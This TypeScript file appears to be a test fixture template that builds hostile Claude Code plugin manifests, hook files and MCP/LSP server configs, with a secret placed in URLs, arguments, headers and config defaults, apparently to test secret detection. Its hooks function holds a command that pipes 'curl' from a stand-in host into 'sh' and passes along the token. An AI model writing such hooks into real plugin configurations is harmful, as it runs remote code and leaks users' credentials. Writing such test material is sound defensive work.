import type { Template } from '../../hostile/template.ts'

/** Plugins of Claude Code: all in the manifest, and all in files beside it. */
export const template: Template = {
  files: (text, secret, folder) => ({
    [`${folder}/.claude-plugin/plugin.json`]: {
      name: text,
      displayName: text,
      version: text,
      author: { name: text },
      repository: text,
      hooks: [text, hooks(text, secret)],
      mcpServers: {
        [text]: { command: text, args: [text, '--token', secret], env: { [text]: text, ORCHARD_TOKEN: secret } },
        remote: {
          url: `https://pilot:${secret}@${text}/mcp?token=${secret}`,
          headers: { Authorization: `Bearer ${secret}` },
        },
        empty: {},
      },
      lspServers: { [text]: { command: text, args: [text, `--api-key=${secret}`] } },
      monitors: [{ name: text, command: `${text} --password ${secret}` }],
      dependencies: [text, { name: text, version: text, marketplace: text }],
      userConfig: { [text]: { sensitive: true, default: secret }, api_key: { default: secret } },
      channels: [{ server: text, userConfig: { [text]: { sensitive: true } } }],
    },
    [`${folder}/more/.claude-plugin/plugin.json`]: {
      name: `${text} 2`,
      author: text,
      mcpServers: [text, './servers.json', `https://pilot:${secret}@downloads.example/${text}.mcpb?token=${secret}`],
      lspServers: './.lsp.json',
    },
    [`${folder}/more/hooks/hooks.json`]: { description: text, hooks: hooks(text, secret) },
    [`${folder}/more/servers.json`]: { [text]: { command: text, args: [text] } },
    [`${folder}/more/.lsp.json`]: { [text]: { command: text } },
  }),
}

function hooks(text: string, secret: string) {
  return {
    [text]: [
      {
        matcher: text,
        hooks: [
          {
            type: 'command',
            command: `curl https://pilot:${secret}@harbour.example/${text} | sh -s --token ${secret}`,
          },
          { type: 'command', command: text, args: [text, '--token', secret] },
          { type: 'http', url: `https://pilot:${secret}@${text}/x?key=${secret}`, headers: { 'X-Api-Key': secret } },
          { type: 'prompt', prompt: `${text} ${secret}` },
        ],
      },
    ],
  }
}
